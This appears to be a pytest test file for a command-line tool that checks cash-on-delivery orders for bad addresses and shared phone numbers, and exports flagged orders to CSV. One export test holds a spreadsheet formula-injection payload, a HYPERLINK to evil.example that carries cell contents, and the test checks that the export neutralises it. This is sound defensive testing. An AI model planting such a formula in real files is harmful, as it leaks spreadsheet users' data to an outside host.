"""`codtool check` through the CLI: counts, re-runs, rechecks, the order view and the export."""

import csv
import json
from pathlib import Path

import pytest
from helpers import connect, run

from codtool.checks import runner
from codtool.checks.runner import CheckRequest, run_checks
from codtool.ledger import checks as store
from codtool.ledger import open_ledger

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "checks"
FIRST = FIXTURES / "orders_to_check.csv"
LATER = FIXTURES / "later_orders.csv"
FIRST_CODES = {
    "address.it.cap_comune_mismatch": 1, "address.it.missing_house_number": 1, "address.it.province_mismatch": 1,
    "address.postcode_malformed": 1, "address.us.po_box": 1, "address.us.zip_state_mismatch": 1,
    "phone.landline": 2, "phone.shared_other_name": 2,
}


def cli(db: Path, *args: str, ok: bool = True):
    result = run(db, *args)
    if ok:
        assert result.exit_code == 0, result.output
    return result


def run_json(db: Path, *args: str) -> dict:
    return json.loads(cli(db, "--json", *args).stdout)


def table_rows(db: Path, table: str) -> list[tuple]:
    with connect(db) as session:
        return [tuple(r) for r in session.execute(f"SELECT * FROM {table} ORDER BY 1")]


@pytest.fixture
def db(ledgers):
    path = ledgers.new()
    cli(path, "import", str(FIRST), "--shop", "demo")
    return path


def test_check_counts_by_code(db):
    data = run_json(db, "check")
    assert (data["checked"], data["ok"], data["flagged"]) == (10, 2, 8)
    assert data["by_code"] == FIRST_CODES
    assert data["by_severity"] == {"error": 6, "warning": 4, "info": 0}


def test_human_summary_lists_codes(db):
    out = cli(db, "check").stdout
    assert "Checked 10 orders: 2 ok, 8 flagged" in out
    assert "address.us.po_box" in out and "couriers do not deliver COD parcels to PO boxes" in out


def test_rerun_changes_nothing(db):
    run_json(db, "check")
    findings, normalised = table_rows(db, "order_findings"), table_rows(db, "order_normalised")
    again = run_json(db, "check")
    assert (again["checked"], again["by_code"], again["other_orders_flagged"]) == (0, {}, 0)
    assert table_rows(db, "order_findings") == findings
    assert table_rows(db, "order_normalised") == normalised
    assert "No unchecked orders" in cli(db, "check").stdout


def test_recheck_replaces_findings_without_duplicates(db):
    run_json(db, "check")
    before = len(table_rows(db, "order_findings"))
    data = run_json(db, "check", "--recheck", "--all")
    assert data["checked"] == 10 and data["by_code"] == FIRST_CODES
    assert len(table_rows(db, "order_findings")) == before


def test_later_batch_flags_earlier_order_sharing_a_phone(db):
    run_json(db, "check")
    cli(db, "import", str(LATER), "--shop", "demo")
    data = run_json(db, "check", "--batch", "2")
    # C-3101 "ROSSI GIULIA" is the same person as C-3001 but not as C-3005 (Sara Colombo);
    # C-3102 shares Marco Bianchi's (C-3002) number, which flags C-3002 as well.
    assert (data["checked"], data["flagged"], data["other_orders_flagged"]) == (2, 2, 1)
    assert data["by_code"] == {"phone.shared_other_name": 2}
    shown = run_json(db, "orders", "show", "C-3002")
    assert [f["code"] for f in shown["findings"]] == ["phone.shared_other_name"]
    assert "C-3102 (Paolo Greco)" in shown["findings"][0]["message"]


def test_orders_show_lists_findings_and_normalised_form(db):
    run_json(db, "check")
    shown = run_json(db, "orders", "show", "C-3004")
    assert [(f["severity"], f["code"]) for f in shown["findings"]] == [
        ("error", "address.it.cap_comune_mismatch"), ("error", "address.it.missing_house_number")]
    assert shown["findings"][0]["suggestion"] == "a CAP of Milano (20121-20162): ask for the street's CAP"
    assert shown["normalised"][0]["phone_e164"] == "+393387654321"
    assert shown["address1"] == "Via Dante"  # what the customer typed is never overwritten
    human = cli(db, "orders", "show", "C-3005").stdout
    assert "Findings" in human and "Cantù is in CO, not MI" in human


def test_export_is_injection_safe_and_keeps_phones_readable(db, tmp_path):
    out = tmp_path / "flagged.csv"
    data = run_json(db, "check", "--export", str(out))
    assert data["exported"] == 8
    raw = out.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")  # machine CSV by default; --csv-dialect excel-it adds the BOM
    rows = list(csv.DictReader(raw.decode("utf-8").splitlines()))
    assert [r["source_id"] for r in rows][:5] == ["C-3004", "C-3005", "C-3007", "C-3008", "C-3009"]
    assert {r["severity"] for r in rows[:5]} == {"error"}
    by_id = {r["source_id"]: r for r in rows}
    assert by_id["C-3006"]["customer_name"] == "'=HYPERLINK(\"http://evil.example/?x=\"&A1;\"Clicca\")"
    assert by_id["C-3001"]["phone"] == "+39 333 123 4567"
    assert by_id["C-3001"]["phone_e164"] == "+393331234567"
    assert by_id["C-3004"]["codes"] == "address.it.missing_house_number address.it.cap_comune_mismatch"
    assert "province CO" in by_id["C-3005"]["suggested_fix"]
    assert out.stat().st_mode & 0o077 == 0


def test_export_leaves_out_orders_no_longer_open(db, tmp_path):
    run_json(db, "check")
    ledger = open_ledger(db)
    with ledger.transaction() as conn:
        conn.execute("UPDATE orders SET status = 'cancelled' WHERE source_id = 'C-3007'")
    ledger.close()
    out = tmp_path / "flagged.csv"
    assert run_json(db, "check", "--export", str(out))["exported"] == 7
    assert "C-3007" not in out.read_text("utf-8-sig")


@pytest.mark.parametrize(("args", "code", "message"), [
    (("check", "--batch", "99"), 1, "Error: no batch 99; see codtool batches list\n"),
    (("check", "--export", "{tmp}"), 1, "Error: {tmp}: is a directory; give a file name for the output\n"),
    (("check", "--export", "{tmp}/missing/x.csv"), 1,
     "Error: {tmp}/missing/x.csv: the folder {tmp}/missing does not exist\n"),
])
def test_bad_input_is_one_line(db, tmp_path, args, code, message):
    result = cli(db, *(a.format(tmp=tmp_path) for a in args), ok=False)
    assert result.exit_code == code
    assert result.stderr == message.format(tmp=tmp_path)
    assert table_rows(db, "order_findings") == []  # failed before touching the ledger


@pytest.mark.parametrize("args", [("check", "--batch", "1", "--all"), ("check", "--recheck"),
                                  ("check", "--batch", "one")])
def test_usage_errors_exit_2(db, args):
    result = cli(db, *args, ok=False)
    assert result.exit_code == 2
    assert "Traceback" not in result.output


def test_interrupted_store_leaves_ledger_consistent(db, monkeypatch):
    def interrupted(conn, rows):
        list(rows)
        raise KeyboardInterrupt

    monkeypatch.setattr(store, "insert_findings", interrupted)
    ledger = open_ledger(db)
    with pytest.raises(KeyboardInterrupt):
        run_checks(ledger, CheckRequest())
    assert table_rows(db, "order_normalised") == []
    monkeypatch.undo()
    assert run_checks(ledger, CheckRequest()).checked == 10
    ledger.close()


def test_overlapping_run_does_not_store_twice(db):
    """A run that evaluated orders while another run stored them writes nothing for them."""
    slow, fast = open_ledger(db), open_ledger(db)
    rows = store.orders_to_check(slow.session, None, False, 0, 100)
    results = runner.checked(rows)
    assert run_checks(fast, CheckRequest()).checked == 10
    assert runner._store(slow, results, recheck=False) == []
    assert len(table_rows(db, "order_normalised")) == 10
    assert len(table_rows(db, "order_findings")) == sum(FIRST_CODES.values())
    slow.close()
    fast.close()


def test_small_slices_give_the_same_result(db):
    ledger = open_ledger(db)
    summary = run_checks(ledger, CheckRequest(chunk_size=3))
    ledger.close()
    assert (summary.checked, summary.ok, summary.flagged) == (10, 2, 8)
    assert dict(summary.by_code) == FIRST_CODES

